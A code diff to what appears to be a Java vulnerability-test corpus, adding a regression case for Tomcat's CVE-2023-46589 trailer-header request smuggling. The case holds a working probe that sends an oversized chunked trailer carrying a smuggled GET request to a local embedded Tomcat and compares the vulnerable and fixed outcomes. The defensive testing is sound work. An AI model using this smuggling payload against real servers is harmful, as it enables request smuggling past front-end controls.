@@ -1318,6 +1318,92 @@ final class OutsideCorpusCases {
           "refused StackOverflowError",
           "refused InputManipulationException");
 
+  /**
+   * tomcat-embed-core 9.0.83: a chunked request's trailer header longer than {@code maxTrailerSize}
+   * overflowed the trailer buffer mid-header (a {@code BufferOverflowException}, which the servlet
+   * sees as a failed read); the rest of the trailer was then read as the next request on the
+   * connection, so one request smuggled another. The fix refuses the trailer with a {@code
+   * BadRequestException} (400, connection closed). The server was started, and served, at start.
+   */
+  static final CorpusCase TOMCAT_TRAILER_SMUGGLING =
+      new CorpusCase(
+          "CVE-2023-46589",
+          "org.apache.tomcat.embed:tomcat-embed-core",
+          "9.0.82",
+          "9.0.83",
+          List.of("org.apache.tomcat:tomcat-annotations-api:9.0.82"),
+          List.of(),
+          """
+          import java.io.*;
+          import java.net.Socket;
+          import java.nio.charset.StandardCharsets;
+          import java.util.concurrent.atomic.AtomicInteger;
+          import javax.servlet.http.*;
+          import org.apache.catalina.Context;
+          import org.apache.catalina.startup.Tomcat;
+          public class Probe {
+            static final AtomicInteger SMUGGLED = new AtomicInteger();
+            static int port;
+            public static class Upload extends HttpServlet {
+              protected void doPost(HttpServletRequest req, HttpServletResponse resp)
+                  throws IOException {
+                String read;
+                try { read = "read " + req.getInputStream().readAllBytes().length; }
+                catch (Exception e) { read = "failed " + e.getClass().getSimpleName(); }
+                resp.getWriter().print(read);
+              }
+            }
+            public static class Other extends HttpServlet {
+              protected void doGet(HttpServletRequest req, HttpServletResponse resp)
+                  throws IOException {
+                SMUGGLED.incrementAndGet();
+                resp.getWriter().print("other");
+              }
+            }
+            static String exchange(String raw) throws IOException {
+              try (Socket s = new Socket("127.0.0.1", port)) {
+                s.setSoTimeout(60000);
+                s.getOutputStream().write(raw.getBytes(StandardCharsets.ISO_8859_1));
+                s.shutdownOutput();
+                return new String(s.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
+              }
+            }
+            static String statuses(String got) {
+              StringBuilder out = new StringBuilder();
+              java.util.regex.Matcher m =
+                  java.util.regex.Pattern.compile("HTTP/1\\\\.1 (\\\\d{3})").matcher(got);
+              while (m.find()) out.append(out.length() == 0 ? "" : " ").append(m.group(1));
+              return out.toString();
+            }
+            static String probe() throws IOException {
+              int before = SMUGGLED.get();
+              String got = exchange(
+                  "POST /upload HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
+                      + "5\\r\\nhello\\r\\n0\\r\\nX-Big:" + "b".repeat(8187)
+                      + "GET /other HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n");
+              return "responses " + statuses(got) + "; smuggled " + (SMUGGLED.get() - before);
+            }
+            public static void main(String[] args) throws Exception {
+              Tomcat tomcat = new Tomcat();
+              tomcat.setBaseDir(java.nio.file.Files.createTempDirectory("probe-tomcat").toString());
+              tomcat.setPort(0);
+              Context ctx = tomcat.addContext("", null);
+              Tomcat.addServlet(ctx, "upload", new Upload());
+              ctx.addServletMappingDecoded("/upload", "upload");
+              Tomcat.addServlet(ctx, "other", new Other());
+              ctx.addServletMappingDecoded("/other", "other");
+              tomcat.getConnector();
+              tomcat.start();
+              port = tomcat.getConnector().getLocalPort();
+              String ok = exchange("POST /upload HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n"
+                  + "Transfer-Encoding: chunked\\r\\n\\r\\n5\\r\\nhello\\r\\n0\\r\\nX-Note: a\\r\\n\\r\\n");
+              if (!ok.contains("read 5")) throw new IllegalStateException(ok);
+          """
+              + LOOP
+              + "}}",
+          "responses 200 200; smuggled 1",
+          "responses 400; smuggled 0");
+
   /** The cases in force live today, by their probes. */
   /**
    * jackson-core 2.15.0: no limit on the length of a number or the depth of nesting (CVE-2025-52999
@@ -1392,7 +1478,8 @@ final class OutsideCorpusCases {
           POSTGRESQL_REFRESH_ROW_COLUMNS,
           JOSE4J_PBES2_COUNT,
           NETTY_ITERABLE_HEADER_VALUES,
-          JETTISON_SELF_COLLECTION);
+          JETTISON_SELF_COLLECTION,
+          TOMCAT_TRAILER_SMUGGLING);
 
   /**
    * The cases only partly in force live, each with the class whose objects, built before the
@@ -1439,23 +1526,15 @@ final class OutsideCorpusCases {
    * 3.18.0 changes three hierarchies the fix does not need.
    */
   static final Map<CorpusCase, List<String>> CREATE_OPTIONS =
-      Map.of(
-          POSTGRESQL_CLASS_PROPERTIES,
-          List.of("--live-subset"),
-          COMMONS_COLLECTIONS_FUNCTORS,
-          List.of("--in-force-subset"),
-          COMMONS_IO_NORMALIZE,
-          List.of("--live-subset"),
-          CONFIGURATION_DEFAULT_LOOKUPS,
-          List.of("--live-subset"),
-          COMMONS_LANG3_CLASS_NAME,
-          List.of("--live-subset"),
-          SPRING_WEB_USERINFO_HOST,
-          List.of("--live-subset"),
-          GUAVA_TEMP_FILE_PERMISSIONS,
-          List.of("--live-subset"),
-          POSTGRESQL_REFRESH_ROW_COLUMNS,
-          List.of("--live-subset"),
-          JACKSON_CORE_READ_CONSTRAINTS,
-          List.of("--first-load"));
+      Map.ofEntries(
+          Map.entry(POSTGRESQL_CLASS_PROPERTIES, List.of("--live-subset")),
+          Map.entry(COMMONS_COLLECTIONS_FUNCTORS, List.of("--in-force-subset")),
+          Map.entry(COMMONS_IO_NORMALIZE, List.of("--live-subset")),
+          Map.entry(CONFIGURATION_DEFAULT_LOOKUPS, List.of("--live-subset")),
+          Map.entry(COMMONS_LANG3_CLASS_NAME, List.of("--live-subset")),
+          Map.entry(SPRING_WEB_USERINFO_HOST, List.of("--live-subset")),
+          Map.entry(GUAVA_TEMP_FILE_PERMISSIONS, List.of("--live-subset")),
+          Map.entry(POSTGRESQL_REFRESH_ROW_COLUMNS, List.of("--live-subset")),
+          Map.entry(JACKSON_CORE_READ_CONSTRAINTS, List.of("--first-load")),
+          Map.entry(TOMCAT_TRAILER_SMUGGLING, List.of("--live-subset")));
 }
